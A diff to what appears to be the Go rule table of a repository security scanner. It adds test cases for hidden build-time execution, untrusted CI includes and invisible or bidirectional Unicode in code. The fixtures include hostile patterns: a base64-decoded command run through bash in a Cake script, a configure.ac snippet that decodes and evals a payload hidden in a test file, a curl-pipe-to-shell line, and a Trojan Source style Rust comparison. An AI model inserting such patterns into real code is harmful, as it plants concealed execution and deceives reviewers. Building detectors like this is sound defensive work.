@@ -64,6 +64,8 @@ var registry = []Rule{
 			// configure runs the shell inside configure.ac's macros.
 			{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS_PRE([\n  p=`sed -n '/^#x/,$p' tests/files/x.lz | tr '\\t \\-_' ' \\t_\\-' | xz -dc`\n  eval \"$p\"\n])", 4, false},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
+			// A Cake build script decoding a command and starting it.
+			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
@@ -711,7 +713,11 @@ var registry = []Rule{
 			// another project of the same instance at a ref, a certified
 			// orb, a released orb, Azure Repos of the same organisation,
 			// a library the Jenkins administrator configured.
-			{".gitlab-ci.yml", "include:\n  - local: /ci/build.yml\n  - template: Security/SAST.gitlab-ci.yml\n  - project: acme/ci-templates\n    ref: v3.2.0\n    file: /python.yml\n  - component: $CI_SERVER_FQDN/acme/components/lint@1.0.0\n  - component: gitlab.com/components/secret-detection/secret-detection@1.1\n  - remote: $CI_SERVER_URL/acme/ci/-/raw/main/x.yml\n  - component: gitlab.gnome.org/GNOME/citemplates/release-service@master", 0, true},
+			{".gitlab-ci.yml", "include:\n  - local: /ci/build.yml\n  - template: Security/SAST.gitlab-ci.yml\n  - project: acme/ci-templates\n    ref: v3.2.0\n    file: /python.yml\n  - component: $CI_SERVER_FQDN/acme/components/lint@1.0.0\n  - component: gitlab.com/components/secret-detection/secret-detection@1.1\n  - remote: $CI_SERVER_URL/acme/ci/-/raw/main/x.yml\n  - component: gitlab.gnome.org/GNOME/citemplates/release-service@v1.2", 0, true},
+			// A host named gitlab.… is anyone's who registers the domain; an
+			// integrity: with no digest fixes nothing.
+			{".gitlab-ci.yml", "include:\n  - remote: https://gitlab.x.invalid/t/ci/-/raw/main/build.yml", 2, false},
+			{".gitlab-ci.yml", "include:\n  - remote: https://ci.x.invalid/t/ci/-/raw/main/build.yml\n    integrity: sha256-", 2, false},
 			{".circleci/config.yml", "version: 2.1\norbs:\n  node: circleci/node@5.1.0\n  codecov: codecov/codecov@3.3.0\njobs: {}", 0, true},
 			{".buildkite/pipeline.yml", "steps:\n  - command: make test\n    plugins:\n      - docker-compose#v5.2.0:\n          run: app\n      - buildkite-plugins/junit-annotate#v2.4.1: ~", 0, true},
 			{"azure-pipelines.yml", "resources:\n  repositories:\n    - repository: templates\n      type: git\n      name: Acme/PipelineTemplates", 0, true},
@@ -858,6 +864,12 @@ var registry = []Rule{
 		{"x.go", "// \u202e hidden", 0, false},
 		// Still shown in a test fixture, where it is medium.
 		{"tests/fixtures/bidi.py", "x = 1 # \u202e hidden", 0, false},
+		// An override stays one beside right-to-left text; an isolate in code is one.
+		{"x.py", "s = 'مرحبا' # \u202e hidden", 0, false},
+		{"x.rs", "if access_level != \"user\u2067 \u2066// Check if admin\u2069 \u2066\" {", 0, false},
+		// The marks that keep numbers in place in an Arabic or Hebrew translation.
+		{"locales/ar.json", "{\n  \"price\": \"\u200fالسعر: %s\u200f\"\n}", 0, true},
+		{"po/he.po", "msgid \"Hello %s\"\nmsgstr \"\u200fשלום %s\"", 0, true},
 	}},
 	{"hidden-payload", KindHiddenUnicode, High, "invisible characters (variation selectors, tags, zero-width) inside code",
 		"invisible characters inside code or a string can carry a payload a decoder turns into code, or make two names that look the same differ", []Case{
@@ -869,6 +881,12 @@ var registry = []Rule{
 			{"x.lua", "icon = '\ue0b0'", 0, true},
 			{"x.js", "const greeting = '안녕하세요'", 0, true},
 			{"x.js", "const ok = '👍🏽'", 0, true},
+			// Persian and the Indic scripts spell words with ZWNJ and ZWJ.
+			{"locales/fa.json", "{\n  \"books\": \"کتاب\u200cها\"\n}", 0, true},
+			{"src/hi.js", "const s = 'क्\u200dष'", 0, true},
+			{"locales/mn.json", "{\"x\": \"ᠮᠣᠩᠭᠣᠯ\u180eᠪᠢᠴᠢᠭ\"}", 0, true},
+			{"x.js", "const { timeout,\u180e } = req.query", 0, false},
+			{"x.js", "const role = 'admin\u200d'", 0, false},
 		}},
 	{"hidden-instructions", KindHiddenUnicode, High, "invisible characters spell text in a file people and AI agents read (tag characters, a run of variation selectors, or any hidden character in an agent's instructions)",
 		"each tag character or selector is an invisible copy of a letter or a byte: the reviewer sees nothing, while an AI agent (run in CI with the job's token) or a decoder reads the instructions they spell", []Case{
@@ -894,6 +912,7 @@ var registry = []Rule{
 		}},
 	{"hidden-text", KindHiddenUnicode, Medium, "invisible characters in the line", HiddenWhy, []Case{
 		{"README.md", "see\u200bthis", 0, false},
+		{"config/locales/ar.yml", "ar:\n  hello: \"\u202bمرحبا\u202c\"", 0, false},
 	}},
 
 	// ---- medium: a person should read it, but it needs another step to do harm
